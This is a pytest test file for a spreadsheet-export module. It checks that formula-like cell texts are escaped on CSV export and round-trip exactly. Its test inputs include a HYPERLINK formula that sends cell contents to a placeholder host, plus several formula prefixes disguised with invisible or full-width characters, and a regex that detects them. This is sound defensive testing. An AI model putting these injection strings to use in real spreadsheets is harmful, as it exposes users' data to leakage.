"""Cells of tables for spreadsheets: no formulas, and the same texts when read back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sphinx_amts.errors import CatalogError
from sphinx_amts.interchange.cells import cell, cell_text, typed_text
from sphinx_amts.interchange.sheets import read_sheet, sheet

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"look")',
    "+1 phrase",
    "-v is an option",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0@A1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe631",
    "\x00=1+1",
)
HARMLESS = ("", "Coffee", "a = b", "1+1", "'quoted'", "— Hola", "'", "''", "x-y", "«a»")
# what spreadsheets compute, whatever of our separators they take a text apart by
COMPUTED = re.compile(r"(?:^|[;\t\r\n])[\s\"\ufeff\u200b\x00]*[=+\-@＝＋－＠﹣\u2212]")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(text):
    assert not COMPUTED.search(cell(text))
    assert cell_text(cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert cell(text) == text
    assert cell_text(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_a_separator_of_other_countries_begins_no_formula(separator):
    text = f"Two things{separator} =1+1{separator}+2"
    assert not COMPUTED.search(cell(text))
    assert cell_text(cell(text)) == text


@given(st.text(st.sampled_from("'\"=+-@;\t\r\n a\ufeff＝–\ud800"), max_size=12))
@example("'=")
@example("'\t")
@example("''\n'-")
def test_every_text_comes_back(text):
    assert not COMPUTED.search(cell(text))
    assert not cell(text).startswith(("\t", "\r", "\n"))
    assert cell_text(cell(text)) == text


def test_what_people_type_keeps_its_quotes():
    assert typed_text("'+1 frase") == "+1 frase"
    assert typed_text("'-v' es la opción") == "'-v' es la opción"
    assert typed_text("'-v n'est pas") == "-v n'est pas"
    assert typed_text("frase") == "frase"


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_a_sheet_comes_back(tmp_path, text):
    path = tmp_path / "sheet.csv"
    path.write_bytes(sheet(["id", "draft", "mine"], [{"id": "1", "draft": text}]))
    content = path.read_bytes().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(content, newline="")):
        assert not any(COMPUTED.search(field) for field in row)
    [(_, row)] = read_sheet(path, {"draft"}, CatalogError, typed={"mine"})
    assert row == {"id": "1", "draft": text, "mine": ""}


def test_a_draft_that_was_copied_is_the_draft(tmp_path):
    path = tmp_path / "sheet.csv"
    draft = "-v' is half a quotation"
    path.write_bytes(sheet(["draft", "mine"], [{"draft": draft, "mine": draft}]))
    [(_, row)] = read_sheet(path, {"draft"}, CatalogError, typed={"mine"})
    assert row == {"draft": draft, "mine": draft}
